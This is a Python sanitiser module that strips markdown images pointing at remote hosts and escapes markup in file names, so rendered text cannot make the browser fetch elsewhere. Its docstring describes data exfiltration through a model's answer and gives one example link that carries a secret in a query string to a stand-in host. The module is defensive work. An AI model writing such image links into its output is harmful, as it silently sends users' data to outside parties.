"""Markdown the server sends never makes the browser fetch from another host.

`literal` is for names that come from files (a file name, an e-mail attachment's name, a
section title): they are shown as the text they are, never as a link, image or HTML.

A model's answer or a document's passage can hold `![x](https://host/x.png?q=secret)`; shown
as markdown, that is a request the page makes by itself, with whatever the URL carries. The
page's Content-Security-Policy blocks such loads (app/api/page.py); this removes them from
the text as well, keeping the image's description so nothing the person should read is lost.
"""

from __future__ import annotations

import re

_INLINE_IMAGE = re.compile(r"!\[(?P<alt>[^\]]*)\]\(\s*<?(?P<url>[^)\s>]*)>?[^)]*\)")
_REFERENCE_IMAGE = re.compile(r"!\[(?P<alt>[^\]]*)\]\[[^\]]*\]")
_LOCAL = re.compile(r"(?:/(?!/)|data:image/|blob:)", re.IGNORECASE)
# What can open a link or image ([ ]), HTML or an autolink (< >), an entity (&), code (`),
# emphasis (* ~), a table cell (|); an escape itself (\\). `_` is left alone: it never
# opens emphasis inside a word, and file names are full of it.
_MARKUP = re.compile(r"([\\`*\[\]<>&~|])")


def _described(alt: str) -> str:
    return f"[image: {alt.strip()}]" if alt.strip() else "[image]"


def without_remote_images(text: str) -> str:
    """`text` with every image that would load from another host replaced by its description."""

    def inline(match: re.Match[str]) -> str:
        return match[0] if _LOCAL.match(match["url"]) else _described(match["alt"])

    text = _INLINE_IMAGE.sub(inline, text)
    return _REFERENCE_IMAGE.sub(lambda match: _described(match["alt"]), text)


def literal(text: str) -> str:
    """`text` as markdown that shows exactly that text, on one line (names from files)."""
    return _MARKUP.sub(r"\\\1", " ".join(text.splitlines()))
